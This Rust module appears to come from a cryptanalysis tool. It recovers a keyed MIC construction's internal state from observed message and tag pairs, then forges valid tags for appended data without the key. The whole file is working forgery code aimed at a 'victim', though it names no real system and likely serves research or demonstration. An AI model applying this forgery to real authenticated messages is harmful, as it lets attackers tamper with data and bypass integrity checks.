//! State recovery and forgery against the keyed construction.
//!
//! With a 16-byte key the MIC of a message whose length is a multiple of
//! four depends only on the accumulator right before the message's last
//! block and that block itself. Recovering that accumulator from the MIC
//! lets anyone resume the chain and tag `prefix ++ extension` without the
//! key.

use std::str::FromStr;

use serde::Serialize;

use crate::config::SearchConfig;
use crate::engine::hash_raw;
use crate::search::{candidate_mic, search_state};
use crate::{Block, Error, Mic, Result, Word, BLOCK_LEN, PADDING};

/// Parse a MIC written as 8 hex digits, with or without a `0x` prefix.
pub fn parse_mic(s: &str) -> Result<Mic> {
    let digits = s.trim().trim_start_matches("0x");
    let mut mic = [0u8; 4];
    hex::decode_to_slice(digits, &mut mic).map_err(|_| Error::InvalidMic(s.to_owned()))?;
    Ok(mic)
}

/// A message together with the MIC the victim published for it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ObservedPair {
    pub message: Vec<u8>,
    pub mic: Mic,
}

impl ObservedPair {
    pub fn new(message: impl Into<Vec<u8>>, mic: Mic) -> Self {
        Self {
            message: message.into(),
            mic,
        }
    }

    /// Parse `msg1:deadbeef,msg2:0f6b8802,...`.
    pub fn parse_list(s: &str) -> Result<Vec<Self>> {
        s.split(',').map(str::parse).collect()
    }
}

impl FromStr for ObservedPair {
    type Err = Error;

    // The MIC follows the last colon, so messages may contain colons.
    fn from_str(s: &str) -> Result<Self> {
        let (message, mic) = s
            .rsplit_once(':')
            .ok_or_else(|| Error::InvalidPair(s.to_owned()))?;
        Ok(Self::new(message.as_bytes(), parse_mic(mic)?))
    }
}

/// The pair chosen for state recovery, cut at its last block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// Index of the pair in the evidence list.
    pub index: usize,
    /// Message bytes before the last block. Kept in the forged message.
    pub prefix: Vec<u8>,
    /// Final block as the engine saw it, padding included.
    pub last_block: Block,
    pub mic: Mic,
    /// Length of the message before any `0xFF` padding was appended.
    pub original_len: usize,
}

impl Target {
    pub fn padded(&self) -> bool {
        self.original_len % BLOCK_LEN != 0
    }
}

/// Pick the evidence to attack.
///
/// The first non-empty, block-aligned message wins. Failing that, the first
/// unaligned message is padded with `0xFF` up to the next block boundary,
/// which reproduces exactly the tail block the engine padded itself. Empty
/// messages are never usable: their last block would be key material.
pub fn select_target(pairs: &[ObservedPair]) -> Result<Target> {
    let aligned = pairs
        .iter()
        .position(|p| !p.message.is_empty() && p.message.len() % BLOCK_LEN == 0);
    let index = aligned
        .or_else(|| pairs.iter().position(|p| p.message.len() % BLOCK_LEN != 0))
        .ok_or(Error::NoUsableEvidence { pairs: pairs.len() })?;

    let pair = &pairs[index];
    let mut message = pair.message.clone();
    let original_len = message.len();
    let padded_len = original_len.next_multiple_of(BLOCK_LEN);
    message.resize(padded_len, PADDING);

    let split = padded_len - BLOCK_LEN;
    let mut last_block = [0u8; BLOCK_LEN];
    last_block.copy_from_slice(&message[split..]);
    message.truncate(split);

    let target = Target {
        index,
        prefix: message,
        last_block,
        mic: pair.mic,
        original_len,
    };
    tracing::debug!(
        index,
        original_len,
        padded = target.padded(),
        last_block = %hex::encode(last_block),
        mic = %hex::encode(pair.mic),
        "selected target pair"
    );
    Ok(target)
}

/// A forged message and its MIC.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Forgery {
    /// Attacker-chosen bytes appended after the prefix.
    #[serde(serialize_with = "hex::serialize")]
    pub extension: Vec<u8>,
    /// MIC that the key holder will accept for `message`.
    #[serde(serialize_with = "hex::serialize")]
    pub mic: Mic,
    /// Complete forged message: target prefix followed by the extension.
    #[serde(serialize_with = "hex::serialize")]
    pub message: Vec<u8>,
    /// Accumulator the chain was resumed from.
    pub state: Word,
    /// Whether `state` came from the exhaustive search.
    pub searched: bool,
}

/// Recover the internal state behind one of `pairs` and forge a MIC for
/// `extension` appended to that pair's prefix.
///
/// `known_state` skips the search. It is used as given, a state that does not
/// reproduce the target MIC only yields a warning.
///
/// The extension must be non-empty. A MIC pins the state only up to the
/// kernel of `Q∘Q`, and an empty extension passes the state through `Q` just
/// once, so half of the aliases would forge the complement of the genuine
/// MIC. Any non-empty extension goes through `Q` at least twice and forges
/// correctly from every alias.
pub fn recover_state_and_forge(
    pairs: &[ObservedPair],
    extension: &[u8],
    known_state: Option<Word>,
    config: &SearchConfig,
) -> Result<Forgery> {
    if extension.is_empty() {
        return Err(Error::EmptyExtension);
    }
    let target = select_target(pairs)?;
    let (state, searched) = match known_state {
        Some(state) => {
            let block = Word::from_be_bytes(target.last_block);
            if candidate_mic(block, state) != Word::from_be_bytes(target.mic) {
                tracing::warn!(
                    state = format_args!("{state:08x}"),
                    "given state does not reproduce the target mic"
                );
            }
            (state, false)
        }
        None => (search_state(target.last_block, target.mic, config)?.state, true),
    };

    let mic = hash_raw(extension, state).to_be_bytes();
    let mut message = target.prefix;
    message.extend_from_slice(extension);
    tracing::info!(
        state = format_args!("{state:08x}"),
        mic = %hex::encode(mic),
        len = message.len(),
        "forged mic"
    );
    Ok(Forgery {
        extension: extension.to_vec(),
        mic,
        message,
        state,
        searched,
    })
}
